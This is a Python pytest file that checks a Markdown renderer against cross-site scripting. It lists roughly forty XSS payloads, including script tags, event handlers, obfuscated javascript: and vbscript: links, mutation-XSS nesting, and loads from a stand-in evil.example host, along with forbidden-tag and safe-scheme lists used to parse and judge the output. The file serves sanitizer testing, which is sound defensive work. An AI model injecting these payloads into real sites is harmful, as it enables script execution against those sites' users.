"""The Markdown renderer against XSS payloads: the output is parsed, not just searched for substrings."""

import re
from html.parser import HTMLParser

import pytest

from reseau_api.practices.rendering import render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x][r]\n\n[r]: javascript:alert(1)',
    "[x](file:///etc/passwd)",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<form action=javascript:alert(1)><input type=submit></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=javascript:alert(1)//>",
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
]

FORBIDDEN_TAGS = {"script", "iframe", "svg", "object", "embed", "style", "form", "input", "meta", "base", "body",
                  "math", "details"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    handle_startendtag = handle_starttag


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_safe(html: str) -> None:
    found = inspect(html)
    assert not FORBIDDEN_TAGS & set(found.tags), html
    for _tag, name, value in found.attributes:
        assert not name.startswith("on"), html
        assert name != "style", html
        if name in URL_ATTRIBUTES:
            # The value as a browser sees it: entities decoded by the parser, whitespace and case folded.
            folded = "".join((value or "").split()).lower()
            assert folded.startswith(SAFE_SCHEMES) or ":" not in folded.split("/")[0], html
    # Escaped text (`&lt;script&gt;`) is harmless; a real tag or an event handler inside one is not.
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.IGNORECASE), html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_rendering(payload: str) -> None:
    assert_safe(render(payload))


@pytest.mark.parametrize("unsafe", [
    '<a href=" JaVa&#x53;cript:alert(1)">x</a>', '<img src="data:image/svg+xml,x">', "<p onclick=x>a</p>",
    "<svg></svg>", '<a href="vbscript:x">x</a>',
])
def test_the_checks_catch_unsafe_html(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 25


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render("<b>gras</b>") == "<p>&lt;b&gt;gras&lt;/b&gt;</p>\n"


def test_formatting_and_safe_links_are_kept() -> None:
    html = render("# Titre\n\n- *un* **deux**\n\n[mail](mailto:a@b.fr) ![logo](https://ok.example/l.png)\n\n"
                  "| a | b |\n|---|---|\n| 1 | 2 |")
    found = inspect(html)
    assert {"h1", "ul", "li", "em", "strong", "a", "img", "table", "td"} <= set(found.tags)
    assert ("a", "href", "mailto:a@b.fr") in found.attributes
    assert ("a", "rel", "noopener noreferrer nofollow") in found.attributes
    assert ("img", "src", "https://ok.example/l.png") in found.attributes
